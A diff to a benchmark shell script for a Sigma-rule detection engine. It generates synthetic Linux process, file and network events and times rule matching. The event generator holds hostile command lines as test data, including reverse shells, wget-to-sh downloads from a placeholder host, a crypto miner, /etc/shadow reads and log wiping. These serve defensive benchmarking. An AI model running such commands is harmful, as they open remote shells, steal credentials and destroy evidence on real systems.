@@ -3,34 +3,65 @@
 # print) over generated Linux events with every SigmaHQ Linux rule loaded. Prints
 # events per second; asserts nothing. Débit de la détection ; affiche des chiffres.
 #
-# Usage: bench/rules.sh [RULES_DIR (default ../shared/sigma/rules/linux)] [EVENTS (default 500000)]
+# Usage: bench/rules.sh [RULES_DIR (default ../shared/sigma/rules/linux)] [EVENTS (default 1000000)]
 set -euo pipefail
 cd "$(dirname "$0")/.."
-RULES=${1:-../shared/sigma/rules/linux}
-N=${2:-500000}
+RULES=$(realpath "${1:-../shared/sigma/rules/linux}")
+N=${2:-1000000}
 cargo build --release --bins -q
 WORK=$(mktemp -d)
 trap 'rm -rf "$WORK"' EXIT
-python3 - "$N" > "$WORK/events.jsonl" <<'PY'
+# Events as a server's day gives them: mostly routine, a share of them suspicious
+# (SUSPICIOUS, default 1 %), with numbers in paths and arguments so few repeat.
+generate() { # N SUSPICIOUS > file
+python3 - "$1" "$2" <<'PY'
 import json, random, sys
 random.seed(7)
-n = int(sys.argv[1])
-images = ["/usr/bin/bash", "/usr/bin/ls", "/usr/bin/python3", "/usr/sbin/sshd", "/usr/bin/curl", "/usr/bin/systemctl", "/usr/bin/cat", "/tmp/x"]
-args = ["-la /var/log", "status nginx", "-c 'import os'", "-s https://mirror.local/pkg.tar.gz -o /tmp/pkg", "/etc/hosts", "-D", "--version", "-i >& /dev/tcp/10.0.0.1/4444 0>&1"]
+n, suspicious = int(sys.argv[1]), float(sys.argv[2])
+tools = ["ls", "cat", "grep", "sed", "awk", "find", "ps", "systemctl", "journalctl", "python3",
+         "perl", "cron", "logrotate", "gzip", "tar", "rsync", "nginx", "php-fpm", "git", "make",
+         "gcc", "sshd", "bash", "sh", "curl", "apt-get", "dpkg", "id", "date", "sleep"]
+routine = ["-la /var/log/nginx", "status nginx.service", "-c 'import json; print(1)'",
+           "--since today -u ssh", "-czf /backup/www-{n}.tar.gz /var/www", "-rf build/{n}",
+           "/etc/hosts", "--version", "-e 's/a/b/' notes{n}.txt", "-name '*.log' -mtime +7",
+           "pull origin main", "-s https://repo.gouv.ml/pkg{n}.deb -o pkg.deb", "install -y nano",
+           "-aux", "60", "-O2 -o app{n} app.c", "-i notes{n}.txt"]
+attacks = ["bash -i >& /dev/tcp/10.0.0.{n}/4444 0>&1", "nc -e /bin/sh 10.0.0.{n} 4444",
+           "wget http://x{n}.example/a.sh -O- | sh", "chmod +x /tmp/.x{n}",
+           "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", "base64 -d /tmp/p{n} | bash",
+           "crontab -r", "history -c", "xmrig --donate-level 1 -o pool.minexmr.com:4444",
+           "iptables -F", "rm -rf /var/log/auth.log", "cat /etc/shadow", "useradd -o -u 0 x{n}"]
+def image(tool):
+    return ("/usr/sbin/" if tool in ("sshd", "cron", "nginx", "php-fpm", "logrotate") else "/usr/bin/") + tool
 for i in range(n):
+    bad = random.random() < suspicious
     kind = i % 10
     if kind < 7:
-        img = random.choice(images)
-        ev = {"product": "linux", "category": "process_creation", "Image": img,
-              "CommandLine": img.rsplit("/", 1)[1] + " " + random.choice(args),
-              "ParentImage": random.choice(images), "User": random.choice(["root", "www-data", "alice"]),
-              "CurrentDirectory": "/home/alice"}
+        if bad:
+            line = random.choice(attacks).format(n=i % 250)
+            img = random.choice(["/usr/bin/", "/tmp/", "/dev/shm/"]) + line.split()[0]
+        else:
+            tool = random.choice(tools)
+            img, line = image(tool), tool + " " + random.choice(routine).format(n=i)
+        ev = {"product": "linux", "category": "process_creation", "Image": img, "CommandLine": line,
+              "ParentImage": image(random.choice(["bash", "sshd", "cron", "systemd"])),
+              "User": random.choice(["root", "www-data", "alice", "backup"]),
+              "CurrentDirectory": random.choice(["/", "/root", "/home/alice", "/var/www"]),
+              "ProcessId": 1000 + i, "ParentProcessId": 900 + i % 100}
     elif kind < 9:
-        ev = {"product": "linux", "category": "file_event", "TargetFilename": random.choice(["/etc/passwd", "/tmp/a.sh", "/var/www/html/x.php", "/home/alice/notes.txt"]), "Image": random.choice(images)}
+        target = (random.choice(["/etc/shadow", "/etc/cron.d/x", "/tmp/.x.sh", "/var/www/html/shell.php", "/etc/ld.so.preload"])
+                  if bad else f"/var/lib/app/data/{i}.json")
+        ev = {"product": "linux", "category": "file_event", "TargetFilename": target, "Image": image(random.choice(tools))}
     else:
-        ev = {"product": "linux", "category": "network_connection", "Image": random.choice(images), "DestinationIp": f"10.0.{i % 256}.{i % 200}", "DestinationPort": random.choice([22, 80, 443, 4444]), "DestinationHostname": random.choice(["mirror.local", "api.telegram.org", "pool.minexmr.com"]), "Initiated": "true"}
+        ev = {"product": "linux", "category": "network_connection", "Image": image(random.choice(tools)),
+              "DestinationIp": f"10.{i % 200}.{i % 250}.{i % 199}", "DestinationPort": random.choice([4444, 6667] if bad else [53, 80, 443, 5432]),
+              "DestinationHostname": random.choice(["api.telegram.org", "pool.minexmr.com"] if bad else ["repo.gouv.ml", "db.local", "ntp.ubuntu.com"]),
+              "Initiated": "true", "Protocol": "tcp"}
     print(json.dumps(ev))
 PY
+}
+generate "$N" 0.01 > "$WORK/events.jsonl"
+generate "$N" 0.3 > "$WORK/attacks.jsonl"
 size=$(du -m "$WORK/events.jsonl" | cut -f1)
 rules=$(target/release/vigie rules check "$RULES" | tail -1)
 start=$(date +%s.%N)
@@ -43,29 +74,24 @@ awk -v s="$start" -v e="$end" -v n="$N" -v m="$matches" -v r="$rules" -v mb="$si
 }'
 echo "(reference whole-run figures quoted in issue 3: Zircolite ~39k/s, Hayabusa ~18k/s, Chainsaw ~4k/s)"
 
-# The same with ten times the rules: each rule copied nine times with a new id and its
-# quoted values changed, so the copies match nothing the originals match.
-python3 - "$RULES" "$WORK/rules10" <<'PY'
-import os, re, shutil, sys, uuid
-src, dst = sys.argv[1], sys.argv[2]
-shutil.copytree(src, os.path.join(dst, "original"))
-for copy in range(1, 10):
-    for root, _, files in os.walk(src):
-        for name in files:
-            if not name.endswith((".yml", ".yaml")):
-                continue
-            text = open(os.path.join(root, name), encoding="utf-8").read()
-            text = re.sub(r"^id: .*$", f"id: {uuid.uuid4()}", text, count=1, flags=re.M)
-            text = re.sub(r"'([^'\n]+)'", lambda m: f"'{m.group(1)}_copy{copy}'", text)
-            out = os.path.join(dst, f"copy{copy}", os.path.relpath(root, src))
-            os.makedirs(out, exist_ok=True)
-            open(os.path.join(out, name), "w", encoding="utf-8").write(text)
-PY
-head -100000 "$WORK/events.jsonl" > "$WORK/events100k.jsonl"
-for set in "$RULES" "$WORK/rules10"; do
-    loaded=$(target/release/vigie rules check "$set" | tail -1 || true)
+# The engine alone (events parsed beforehand), with these rules and with ten times as many:
+# on the day's events, then on a corpus where 30 % are suspicious.
+echo "engine alone, 1 % suspicious:"
+cargo bench -q -p vigie-rules --bench engine -- "$RULES" "$WORK/events.jsonl"
+echo "engine alone, 30 % suspicious:"
+cargo bench -q -p vigie-rules --bench engine -- "$RULES" "$WORK/attacks.jsonl"
+
+# The reference oracle (pySigma + SQLite, the converter behind Zircolite) on the first
+# 100,000 events, when its Python is given (.ci/run makes one: VIGIE_SIGMA_PYTHON).
+if [ -n "${VIGIE_SIGMA_PYTHON:-}" ] && [ -n "${VIGIE_SIGMA_DIR:-}" ]; then
+    head -100000 "$WORK/events.jsonl" > "$WORK/events100k.jsonl"
     start=$(date +%s.%N)
-    target/release/vigie rules test --rules "$set" --events "$WORK/events100k.jsonl" > /dev/null
+    "$VIGIE_SIGMA_PYTHON" "$VIGIE_SIGMA_DIR/oracle/sigma_oracle.py" "$RULES" "$WORK/events100k.jsonl" \
+        -o "$WORK/oracle.jsonl" 2> /dev/null
     end=$(date +%s.%N)
-    awk -v s="$start" -v e="$end" -v r="$loaded" 'BEGIN { printf "100,000 events, %s: %.2f s, %.0f events/s\n", r, e - s, 100000 / (e - s) }'
-done
+    target/release/vigie rules test --rules "$RULES" --events "$WORK/events100k.jsonl" > "$WORK/ours100k.jsonl" 2> /dev/null
+    same=$(cmp -s "$WORK/oracle.jsonl" "$WORK/ours100k.jsonl" && echo "identical matches" || echo "matches DIFFER")
+    awk -v s="$start" -v e="$end" -v same="$same" 'BEGIN { printf "oracle, 100,000 events: %.2f s, %.0f events/s (%s)\n", e - s, 100000 / (e - s), same }'
+else
+    echo "oracle skipped: set VIGIE_SIGMA_DIR and VIGIE_SIGMA_PYTHON (see .ci/run)"
+fi
